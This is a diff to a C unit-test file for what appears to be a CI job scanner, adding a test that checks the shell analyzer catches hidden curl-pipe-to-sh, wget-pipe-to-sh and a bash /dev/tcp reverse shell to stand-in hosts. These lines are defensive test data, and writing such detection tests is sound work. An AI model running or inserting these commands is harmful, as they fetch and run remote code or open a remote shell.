@@ -5,7 +5,9 @@
  * quoted and over-long paths, thousands of files. Every scan must finish with
  * 0 (memory errors are caught by the ASan/UBSan build), be deterministic,
  * keep every finding inside the output contract, and still find the secret
- * hidden at the end of a huge line.
+ * hidden at the end of a huge line. The same bytes also go through every
+ * analyzer's job-command scanner, and commands built to hide curl|sh or a
+ * reverse shell (huge line, 100000 lines, endless continuation) are caught.
  */
 #include <setjmp.h>
 #include <stdarg.h>
@@ -49,6 +51,14 @@ static tally_t run_all(const char *buf, size_t len)
         assert_int_equal(t1.bad, 0);
         if (strcmp(analyzer_entries[a].name, "secrets") == 0)
             secrets = t1;
+        if (!analyzer_entries[a].analyzer->command)
+            continue;
+        /* the same bytes as a job command (the text the shell would see) */
+        tally_t c1 = {0}, c2 = {0};
+        assert_int_equal(analyzer_entries[a].analyzer->command(buf, len, "job:test", tally, &c1), 0);
+        assert_int_equal(analyzer_entries[a].analyzer->command(buf, len, "job:test", tally, &c2), 0);
+        assert_int_equal(c1.n, c2.n);
+        assert_int_equal(c1.bad, 0);
     }
     return secrets;
 }
@@ -168,6 +178,58 @@ static void test_endless_continuation_and_strings(void **s)
     free(buf);
 }
 
+typedef struct {
+    char rule[64];
+    unsigned line;
+    size_t n;
+} last_t;
+
+static int last(void *ud, const an_finding_t *f)
+{
+    last_t *l = ud;
+    snprintf(l->rule, sizeof l->rule, "%s", f->rule_id);
+    l->line = f->line;
+    l->n++;
+    return 0;
+}
+
+/* Job commands built to hide: curl|sh after 1 MiB on one line, a reverse
+ * shell on the last of 100000 script lines, a pipe into sh after thousands
+ * of continued lines. Each is still found, on the right line. */
+static void test_hostile_commands(void **s)
+{
+    const an_analyzer_t *sh = analyzer_entry_find("shell")->analyzer;
+    size_t cap = 4u << 20, len = 0;
+    char *buf = malloc(cap);
+    last_t l = {0};
+    (void)s;
+    assert_non_null(buf);
+    while (len < (1u << 20))
+        len += (size_t)sprintf(buf + len, "true; ");
+    len += (size_t)sprintf(buf + len, "curl -s https://x.example/i | sh");
+    assert_int_equal(sh->command(buf, len, "job:run[0]", last, &l), 0);
+    assert_string_equal(l.rule, "shell.curl_pipe_shell");
+    assert_int_equal(l.line, 0);
+    memset(&l, 0, sizeof l);
+    len = 0;
+    for (int i = 0; i < 99999; i++)
+        len += (size_t)sprintf(buf + len, "echo %d\n", i);
+    len += (size_t)sprintf(buf + len, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\r\n\n");
+    assert_int_equal(sh->command(buf, len, "job:test", last, &l), 0);
+    assert_int_equal(l.n, 1);
+    assert_string_equal(l.rule, "shell.reverse_shell");
+    assert_int_equal(l.line, 100000);
+    memset(&l, 0, sizeof l);
+    len = (size_t)sprintf(buf, "wget -qO- https://x.example/a \\\n");
+    for (int i = 0; i < 5000; i++)
+        len += (size_t)sprintf(buf + len, "  --header 'X-%d: y' \\\n", i);
+    len += (size_t)sprintf(buf + len, "  | sh\n");
+    assert_int_equal(sh->command(buf, len, "job:test", last, &l), 0);
+    assert_string_equal(l.rule, "shell.curl_pipe_shell");
+    assert_int_equal(l.line, 1);
+    free(buf);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -176,6 +238,7 @@ int main(void)
         cmocka_unit_test(test_malformed_headers),
         cmocka_unit_test(test_long_paths_and_many_files),
         cmocka_unit_test(test_endless_continuation_and_strings),
+        cmocka_unit_test(test_hostile_commands),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
